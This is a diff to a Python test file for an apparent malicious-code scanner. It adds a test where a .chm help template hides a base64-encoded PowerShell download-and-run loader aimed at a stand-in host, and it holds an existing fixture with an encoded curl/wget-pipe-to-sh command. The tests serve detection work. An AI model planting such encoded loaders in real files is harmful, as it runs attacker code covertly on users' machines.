@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 
 import pytest
@@ -225,6 +226,26 @@ def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
     # A plugin that runs its own formatter command hides nothing.
     plain = plugin.replace("echo KGN1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMTQwL3YvJCh3aG9hbWkpIHx8IHdnZXQgLXFPLSBodHRwOi8vMTk4LjUxLjEwMC4xNDAvdi94KSAyPi9kZXYvbnVsbCB8IHNo | base64 -d | sh", "prettier --stdin-filepath x.js")
     assert decide(run({"scripts/install.js": install, "editor/bridge.vim": plain}, {"postinstall": "node scripts/install.js"})).level is Level.CLEAN
+
+
+def test_a_help_page_template_hiding_an_encoded_powershell_loader():
+    # (blind set 41's chm-help: an HTML Help ShortCut object in the topic template runs `powershell -enc …`, a download
+    # saved and run with -f, when the built .chm is opened; the template is copied into every topic by the code)
+    enc = base64.b64encode('$d="$env:APPDATA\\hlp.ps1";iwr -useb https://help-cdn.example/h -OutFile $d;'
+                           'powershell -w hidden -ep bypass -f $d'.encode("utf-16-le")).decode()
+    page = ('<object id="hhIndex" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11">\n'
+            '<param name="Command" value="ShortCut">\n'
+            '<param name="Item1" value=",cmd.exe,/c start /min powershell -nop -w hidden -enc ' + enc + '">\n'
+            '</object><script>hhIndex.Click();</script>\n')
+    build = ("const fs = require('fs'), path = require('path');\n"
+             "const tpl = fs.readFileSync(path.join(__dirname, 'templates', 'topic.htm'), 'utf8');\n"
+             "module.exports = (out, body) => fs.writeFileSync(out, tpl.replace('{{body}}', body));\n")
+    found = run({"index.js": build, "templates/topic.htm": page})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "templates/topic.htm" and "-OutFile" in hidden.details["decoded"]
+    # An encoded command that only prints (a template's diagnostics) hides no loader.
+    quiet = base64.b64encode("Write-Host 'help index ready'".encode("utf-16-le")).decode()
+    assert "install-script/encoded-command" not in rules(run({"index.js": build, "templates/topic.htm": page.replace(enc, quiet)}))
 
 
 def test_executable_spawned_on_load_or_disguised():
